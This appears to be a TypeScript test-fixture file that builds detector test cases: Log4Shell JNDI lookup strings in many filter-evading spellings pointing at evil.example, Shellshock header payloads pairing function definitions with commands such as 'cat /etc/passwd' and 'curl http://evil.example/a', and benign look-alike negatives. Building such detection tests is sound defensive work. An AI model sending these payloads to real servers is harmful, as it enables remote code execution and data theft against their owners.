import type { Cell } from './cell.ts';

type Spelling = (letters: string) => string;
const each =
  (spell: (letter: string) => string): Spelling =>
  (letters) =>
    Array.from(letters, spell).join('');

/** Ways in which Log4j comes to the same letters (CVE-2021-44228), one letter or all of them at a time. */
const spellings: Readonly<Record<string, Spelling>> = {
  plain: (letters) => letters,
  capitals: (letters) => letters.toUpperCase(),
  'lower, each': each((letter) => `\${lower:${letter}}`),
  'upper, each': each((letter) => `\${upper:${letter}}`),
  'a default, each': each((letter) => `\${::-${letter}}`),
  'a default of nothing': (letters) => `\${:-${letters}}`,
  'a default of the environment, each': each((letter) => `\${env:NONE:-${letter}}`),
  'a default of the system': (letters) => `\${sys:none:-${letters}}`,
  'a date, each': each((letter) => `\${date:'${letter}'}`),
  'lower of a default': each((letter) => `\${lower:\${::-${letter}}}`),
  'a default of a default': (letters) => `\${a:-\${b:-${letters}}}`,
  'the first letter': (letters) => `\${lower:${letters[0]}}${letters.slice(1)}`,
  'the last letter': (letters) => `${letters.slice(0, -1)}\${::-${letters.at(-1)}}`,
};
const protocols = ['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'http', 'corba', 'nis'];
const frames: readonly ((lookup: string) => string)[] = [
  (lookup) => lookup,
  (lookup) => `Mozilla/5.0 ${lookup} (X11)`,
  (lookup) => `{"name":"${lookup}"}`,
  (lookup) => `a=\${x${lookup}`,
];

/** Lookups of objects over the network: spellings of `jndi` × protocols × spellings of those × what stands around. */
export const jndiLookups: readonly Cell[] = Object.entries(spellings).flatMap(([name, spell]) =>
  protocols.flatMap((protocol) =>
    Object.entries(spellings).flatMap(([other, spellProtocol]) =>
      frames.map((frame) => ({
        name: `${name}, ${protocol}, ${other}`,
        text: frame(`\${${spell('jndi')}:${spellProtocol(protocol)}://evil.example/a}`),
      })),
    ),
  ),
);

export const plainLookups: readonly Cell[] = [
  `\${name}`,
  `\${user.home}/orders`,
  `costs \${amount} {net}`,
  `\${lower:NAME}`,
  'a jndi:ldap URL without braces',
  `\${a:-b}`,
  'JNDI and LDAP for beginners',
  '{{jndi}}',
  '$(jndi)',
].map((text) => ({ name: text, text }));

const definitions = [
  '() { :;};',
  '() { :; };',
  '(){:;};',
  '() { ignored;};',
  '() { _; } >_[$($())] {',
  "() { (a)=>\\'",
  '() { x() { _; }; x() { _; } <<a; }',
  '() {\t:;\t};',
  '() { echo;};',
  '() { :a; };',
  ' () { :;};',
  '() { :; } ;',
  '() { foo;}; ',
  '() { test;};',
];
const commands = [
  'id',
  'echo; /bin/cat /etc/passwd',
  '/bin/bash -c "curl http://evil.example/a"',
  'ping -c 1 evil.example',
  '/usr/bin/id }',
  'echo x: y',
];

/** Functions where a variable of an environment belongs (CVE-2014-6271, -6277, -6278, -7169): definitions × what follows. */
export const shellFunctions: readonly Cell[] = definitions.flatMap((definition) =>
  commands.map((command) => ({
    name: definition,
    text: `${definition} ${command}`,
    field: { channel: 'header' as const, name: 'user-agent' },
  })),
);

export const plainFunctions: readonly Cell[] = [
  'function() { return true };',
  'const a = () => { b(); };',
  'class A { b() { c; } d() { e; } }',
  'f() { g; };',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
  'call() and return()',
  'async () => {}',
].map((text) => ({ name: text, text }));
